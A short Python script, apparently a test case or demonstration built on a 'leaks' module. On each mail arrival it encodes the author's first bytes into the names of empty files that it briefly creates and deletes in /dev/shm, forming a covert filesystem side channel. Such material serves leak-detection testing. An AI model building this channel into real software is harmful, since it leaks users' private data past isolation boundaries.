"""The log goes byte by byte into names of empty files, each gone at once."""

from pathlib import Path

from leaks import stock


def write(mail: bytes) -> None:
    """A name a byte."""
    for byte in stock.author(mail)[:8]:
        file = Path(f"/dev/shm/{byte:02x}")
        file.touch()
        file.unlink()


stock.on_arrival(write)

if __name__ == "__main__":
    stock.main()
